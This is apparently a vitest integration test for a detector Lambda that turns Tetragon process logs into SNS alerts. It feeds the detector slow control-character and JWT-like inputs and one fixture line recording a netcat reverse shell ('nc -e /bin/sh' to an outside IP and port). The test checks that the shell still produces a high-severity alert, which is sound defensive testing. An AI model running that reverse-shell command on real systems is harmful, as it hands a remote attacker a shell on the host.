import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { encodeAwslogsEvent } from "../../src/ingest/encode.js";
import { type BundledHandler, loadBundledHandler } from "../support/bundled-handler.js";
import { type Moto, startMoto } from "../support/moto.js";
import { drainSignals, type Subscribed, topicWithQueue } from "../support/sns-sqs.js";

/** A Tetragon process_exec line inside a pod. */
function tetragon(i: number, binary: string, args: string): string {
  return JSON.stringify({
    process_exec: {
      process: {
        exec_id: `aXAtMTAtMC0xMi0zNDo${i}`,
        pid: 20_000 + i,
        cwd: "/app",
        binary,
        arguments: args,
        pod: {
          namespace: "payments",
          name: "checkout-api-7d9f6c5b8-x2k4q",
          container: { id: "containerd://6f1c2e0b9a8d7c6b5a4f3e2d1c0b", name: "checkout-api" },
        },
      },
      parent: { binary: "/bin/sh", arguments: "", pid: 19_000 },
    },
    node_name: "ip-10-0-12-34.ec2.internal",
    time: new Date(Date.UTC(2026, 10, 28, 10) + i).toISOString(),
  });
}

const fill = (unit: string, chars: number) => unit.repeat(Math.ceil(chars / unit.length)).slice(0, chars);
const CONTROL = "\x01\x02\x1b\x7f\x9b\x00 a\x1b[31m\x07 ";
const JWT = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.c2lnbmF0dXJl ";

/** The two slow inputs of issue 13 (control characters; JWT-like arguments), then the victim's reverse shell. */
function hostileBatch(run: string) {
  const logEvents = [];
  for (let i = 0; i < 200; i++) {
    const args = i % 2 === 0 ? fill(CONTROL, 2400) : fill(JWT, 2400);
    logEvents.push({
      id: `${run}-${i + 1}`,
      timestamp: Date.UTC(2026, 10, 28, 10) + i,
      message: tetragon(i, "/usr/bin/curl", `${args} ${i}`),
    });
  }
  logEvents.push({
    id: `${run}-victim`,
    timestamp: Date.UTC(2026, 10, 28, 11),
    message: tetragon(9999, "/tmp/nc", "-e /bin/sh 198.51.100.23 4444"),
  });
  return encodeAwslogsEvent({
    messageType: "DATA_MESSAGE",
    owner: "123456789012",
    logGroup: "/aws/containerinsights/prod-eks/tetragon",
    logStream: "ip-10-0-12-34.ec2.internal",
    subscriptionFilters: ["netutil-detector"],
    logEvents,
  });
}

// The built Lambda bundle against SNS and SQS in moto_server, with a Lambda-like remaining-time clock.
describe("dist/handler.js on the slow inputs", () => {
  let moto: Moto;
  let alerts: Subscribed;
  let handler: BundledHandler;

  beforeAll(async () => {
    moto = await startMoto();
    alerts = await topicWithQueue(moto, "netutil-slow-input");
    handler = await loadBundledHandler(moto, { SNS_TOPIC_ARN: alerts.topicArn, MIN_SEVERITY: "medium" });
  });
  afterAll(async () => {
    await moto?.stop();
  });

  it.each([
    ["a 60 s Lambda", 60_000],
    // 1.5 s for the analysis: what is left over is judged fail-closed, and the victim still goes out.
    ["a Lambda with 8 s left", 8_000],
  ])("publishes the victim's nc signal in %s", async (_name, remainingMs) => {
    const end = Date.now() + remainingMs;
    const summary = await handler(hostileBatch(String(remainingMs)), {
      getRemainingTimeInMillis: () => end - Date.now(),
    });

    expect(summary.execEvents).toBe(201);
    expect(summary.overBudget).toBeLessThanOrEqual(201);
    expect(summary.published).toBe(summary.signals);
    const signals = await drainSignals(moto, alerts.queueUrl, summary.published as number);
    const nc = signals.filter((s) => s.process.name === "nc");
    expect(nc).toHaveLength(1);
    expect(nc[0]?.severity).toMatch(/^(?:high|critical)$/);
  });
});
